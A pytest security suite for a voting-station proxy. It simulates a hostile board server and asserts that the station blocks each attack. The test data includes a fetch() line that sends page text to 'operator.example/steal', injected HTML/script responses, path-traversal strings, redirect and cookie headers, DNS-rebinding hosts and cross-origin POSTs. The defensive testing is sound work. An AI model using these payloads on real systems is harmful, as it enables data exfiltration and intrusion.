"""Review of `votecrypt station` (spec 17.7, 7.5) as a hostile operator and network: each test
is one attack. The board here is a server the operator controls: it answers the setup of a
real election that approves the installed booth, and whatever else it likes."""

from __future__ import annotations

import json
import posixpath
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from server_helpers import running, served_election
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from votecrypt.math import Group
from votecrypt.protocol.approved_booth import booth_digest
from votecrypt.service.installed_booth import BOOTH_DIR, installed_booth
from votecrypt.web.station import READY, Station

INSTALLED = installed_booth()


def wait_for(url: str, *states: str) -> dict[str, Any]:
    deadline = time.monotonic() + 120
    while True:
        status: dict[str, Any] = httpx.get(f"{url}/station/status", timeout=30).json()
        if status["state"] in states:
            return status
        assert time.monotonic() < deadline, status
        time.sleep(0.1)


class Board:
    """A hostile board: replays a real board's answers, and answers `evil` paths its own way."""

    def __init__(self, real_url: str) -> None:
        self.real = real_url
        self.evil: dict[str, Response] = {}
        self.seen: list[tuple[str, str, bytes]] = []

    def app(self) -> Starlette:
        async def any_path(request: Request) -> Response:
            body = await request.body()
            self.seen.append((request.method, request.url.path, body))
            if request.url.path in self.evil:
                return self.evil[request.url.path]
            answer = httpx.request(
                request.method,
                f"{self.real}{request.url.path}",
                params=request.url.query or None,
                content=body or None,
                headers={"content-type": request.headers.get("content-type", "")},
                timeout=60,
            )
            kept = {"content-type": answer.headers.get("content-type", "application/json")}
            return Response(answer.content, answer.status_code, kept)

        return Starlette(routes=[Route("/{p:path}", any_path, methods=["GET", "POST"])])


@pytest.fixture(scope="module")
def real_board(tmp_path_factory: pytest.TempPathFactory, fast_group: Group) -> Iterator[Any]:
    root = tmp_path_factory.mktemp("review") / "e"
    with served_election(root, fast_group, ballots=4, candidates=2, booth=INSTALLED.pin) as (
        election,
        url,
    ):
        yield election, url


@contextmanager
def hostile(real_board: Any, fast_group: Group) -> Iterator[tuple[Board, str]]:
    _, real_url = real_board
    board = Board(real_url)
    with running(board.app()) as board_url:
        station = Station(board_url, INSTALLED, fast_group, retry_seconds=0.2)
        with running(station.app()) as url:
            wait_for(url, READY)
            yield board, url


# --- what the board sends back through the station --------------------------------------------

EVIL_HTML = b'<!doctype html><script src="/api/v1/status"></script>'
EVIL_JS = b"fetch('https://operator.example/steal?c='+document.body.innerText)"


@pytest.mark.parametrize("path", ["/api/v1/tracking/ABCD-EFGH", "/api/v1/checkpoint/cosigned"])
def test_a_forwarded_answer_is_never_html_or_script(
    real_board: Any, fast_group: Group, path: str
) -> None:
    with hostile(real_board, fast_group) as (board, url):
        board.evil["/api/v1/tracking/ABCD-EFGH"] = Response(EVIL_HTML, 200, media_type="text/html")
        board.evil["/api/v1/checkpoint/cosigned"] = Response(
            EVIL_JS, 200, media_type="text/javascript"
        )
        answer = httpx.get(f"{url}{path}", timeout=60)
        kind = answer.headers.get("content-type", "")
        # Data only (the cosigned checkpoint is a text note), never sniffed as anything else.
        data = ("application/json", "application/x-ndjson", "text/plain")
        assert kind.split(";")[0].strip() in data, kind
        assert answer.headers.get("x-content-type-options") == "nosniff"


def test_the_record_stream_is_never_served_as_a_page(real_board: Any, fast_group: Group) -> None:
    with hostile(real_board, fast_group) as (board, url):
        board.evil["/api/v1/record"] = Response(EVIL_HTML, 200, media_type="text/html")
        answer = httpx.get(f"{url}/api/v1/record?start=999", timeout=60)
        assert not answer.headers.get("content-type", "").startswith("text/html")


def test_the_board_cannot_redirect_set_cookies_or_relax_the_policy(
    real_board: Any, fast_group: Group
) -> None:
    with hostile(real_board, fast_group) as (board, url):
        board.evil["/api/v1/tracking/ABCD-EFGH"] = Response(
            b"{}",
            302,
            {
                "location": "https://operator.example/booth",
                "set-cookie": "a=b",
                "content-security-policy": "default-src *",
                "access-control-allow-origin": "*",
                "refresh": "0; url=https://operator.example/",
            },
            media_type="application/json",
        )
        answer = httpx.get(f"{url}/api/v1/tracking/ABCD-EFGH", timeout=60)
        for name in ("location", "set-cookie", "access-control-allow-origin", "refresh"):
            assert name not in answer.headers, name
        assert answer.headers["content-security-policy"].startswith("default-src 'self'")


def test_paths_and_queries_the_booth_does_not_use_are_not_forwarded(
    real_board: Any, fast_group: Group
) -> None:
    with hostile(real_board, fast_group) as (board, url):
        before = len(board.seen)
        for path in (
            "/api/v1/record?start=0%26x=1",
            "/api/v1/record?start=0&start=1",
            "/api/v1/proof/consistency?old=1&size=2&x=3",
            "/api/v1/../../openapi.json",
            "/api/v1/%2e%2e/%2e%2e/openapi.json",
            "/api/v1/election/../status/../../openapi.json",
            "/api/v1/tracking/a%2f..%2f..%2fopenapi.json",
            "/api/v1/credentials/" + "0" * 63,
        ):
            answer = httpx.get(f"{url}{path}", timeout=60)
            assert answer.status_code in (400, 404), (path, answer.status_code)
            forwarded = [s for s in board.seen[before:] if s[1] != "/api/v1/status"]
            assert forwarded == [], (path, forwarded)
        # The query of a path that takes none is dropped, not forwarded.
        httpx.get(f"{url}/api/v1/status?evil=1", timeout=60)
        assert all(b"evil" not in p.encode() for _, p, _ in board.seen)


def test_an_election_document_for_another_election_is_not_forwarded(
    real_board: Any, fast_group: Group
) -> None:
    with hostile(real_board, fast_group) as (board, url):
        document = httpx.get(f"{board.real}/api/v1/election", timeout=60).json()
        document["context_hash"] = "00" * 32
        board.evil["/api/v1/election"] = Response(
            json.dumps(document).encode(), media_type="application/json"
        )
        answer = httpx.get(f"{url}/api/v1/election", timeout=60)
        assert answer.status_code == 503
        assert httpx.get(f"{url}/").status_code == 503  # no booth while it does not check


def test_the_board_cannot_switch_the_station_to_another_election(
    real_board: Any, fast_group: Group, tmp_path: Path
) -> None:
    election, _ = real_board
    other = served_election(
        tmp_path / "other", fast_group, ballots=3, candidates=2, booth=INSTALLED.pin
    )
    with other as (_, other_url), hostile(real_board, fast_group) as (board, url):
        first = wait_for(url, READY)["fingerprint"]
        assert first == election.context.fingerprint
        board.real = other_url  # the operator now answers with another election
        # The station notices, and says so: the board shows another election than the one
        # it verified (the station keeps the first, spec 17.7).
        status = wait_for(url, "unverified")
        assert "another election" in status["line"], status
        # It checks the board again and again (every 0.2 s here) and never serves the other.
        states = []
        for _ in range(10):
            states.append(httpx.get(f"{url}/station/status", timeout=30).json())
            time.sleep(0.3)
        assert all(s["state"] != READY for s in states), states
        assert all("another election" in s["line"] for s in states), states
        assert httpx.get(f"{url}/", timeout=30).status_code == 503  # no booth is served


# --- the station's loopback port from other origins --------------------------------------------


def test_a_dns_rebound_host_is_refused(real_board: Any, fast_group: Group) -> None:
    with hostile(real_board, fast_group) as (_, url):
        port = url.rsplit(":", 1)[1]
        for path in ("/station/status", "/api/v1/status", "/"):
            answer = httpx.get(
                f"{url}{path}", headers={"host": f"rebind.operator.example:{port}"}, timeout=60
            )
            assert answer.status_code in (400, 403, 421), (path, answer.status_code)


def test_a_cross_origin_post_is_not_forwarded(real_board: Any, fast_group: Group) -> None:
    with hostile(real_board, fast_group) as (board, url):
        before = len(board.seen)
        httpx.post(
            f"{url}/api/v1/challenges",
            content=b'{"x":1}',
            headers={"origin": "https://operator.example", "content-type": "text/plain"},
            timeout=60,
        )
        assert [s for s in board.seen[before:] if s[0] == "POST"] == []


def test_no_cross_origin_read_is_allowed(real_board: Any, fast_group: Group) -> None:
    with hostile(real_board, fast_group) as (_, url):
        for path in ("/station/status", "/api/v1/status", "/"):
            for method in ("GET", "OPTIONS"):
                answer = httpx.request(
                    method,
                    f"{url}{path}",
                    headers={
                        "origin": "https://operator.example",
                        "access-control-request-method": "POST",
                    },
                    timeout=60,
                )
                assert "access-control-allow-origin" not in answer.headers, (method, path)


# --- what the booth digest covers ------------------------------------------------------------


def test_the_digest_covers_every_file_the_station_serves_and_nothing_else(
    real_board: Any, fast_group: Group
) -> None:
    on_disk = {
        p.relative_to(BOOTH_DIR).as_posix(): p.read_bytes()
        for p in BOOTH_DIR.rglob("*")
        if p.is_file()
    }
    assert on_disk == dict(INSTALLED.files)
    assert booth_digest(on_disk.items()) == INSTALLED.digest
    # The order is the paths' bytes, whatever order they are given in.
    assert booth_digest(reversed(list(on_disk.items()))) == INSTALLED.digest
    # The idle settings are in the digested page.
    assert b'name="idle-seconds"' in INSTALLED.files["index.html"]
    with hostile(real_board, fast_group) as (_, url):
        for path in (
            "../pyproject.toml",
            "%2e%2e/server.py",
            "..%2fserver.py",
            "static/index.html",
        ):
            answer = httpx.get(f"{url}/{path}", timeout=60)
            assert answer.status_code == 404, path
        # Every script, style and image the booth's pages load is a booth file.
        for page in ("index.html", "check.html"):
            text = INSTALLED.files[page].decode()
            for ref in re.findall(r'(?:src|href)="([^"#]+)"', text):
                assert not re.match(r"[a-z]+:|//", ref), (page, ref)
                target = ref.lstrip("/")
                assert target in INSTALLED.files, (page, ref)


def test_every_module_the_booth_imports_is_a_booth_file() -> None:
    for path, content in INSTALLED.files.items():
        if not path.endswith((".js", ".mjs")) or path.startswith("vendor/"):
            continue
        for ref in re.findall(r"""(?:from|import)\s*\(?\s*['"]([^'"]+)['"]""", content.decode()):
            assert not re.match(r"[a-z]+:|//", ref), (path, ref)
            resolved = posixpath.normpath(posixpath.join(posixpath.dirname(path), ref))
            assert resolved in INSTALLED.files, (path, ref)


# --- the same attack in a real browser ---------------------------------------------------------


def test_board_content_never_runs_at_the_stations_origin_in_a_browser(
    real_board: Any, fast_group: Group
) -> None:
    from test_browser import CHROMIUM, CHROMIUM_ARGS, sync_api

    if not CHROMIUM.exists():
        pytest.skip("/usr/bin/chromium is not installed")
    script = b"document.title = 'board code ran at ' + location.origin;"
    with hostile(real_board, fast_group) as (board, url):
        board.evil["/api/v1/tracking/ABCD-EFGH"] = Response(
            b'<!doctype html><title>x</title><script src="/api/v1/checkpoint/cosigned"></script>',
            200,
            media_type="text/html",
        )
        board.evil["/api/v1/checkpoint/cosigned"] = Response(
            script, 200, media_type="text/javascript"
        )
        with sync_api.sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                page = browser.new_page()
                page.goto(f"{url}/api/v1/tracking/ABCD-EFGH")
                page.wait_for_load_state("load")
                title = page.title()
            finally:
                browser.close()
        assert not title.startswith("board code ran"), title
